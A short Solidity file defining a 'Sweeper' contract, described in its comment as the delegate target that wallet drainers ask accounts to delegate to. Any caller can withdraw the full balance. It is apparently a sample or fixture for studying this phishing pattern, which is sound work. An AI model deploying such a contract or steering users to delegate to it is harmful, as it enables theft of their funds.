// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

/// What drainers ask accounts to delegate to: whatever arrives goes to the caller.
contract Sweeper {
    receive() external payable {}

    function sweep() external {
        (bool done, ) = msg.sender.call{value: address(this).balance}('');
        require(done, 'Sweeper: NOT_PAID');
    }
}
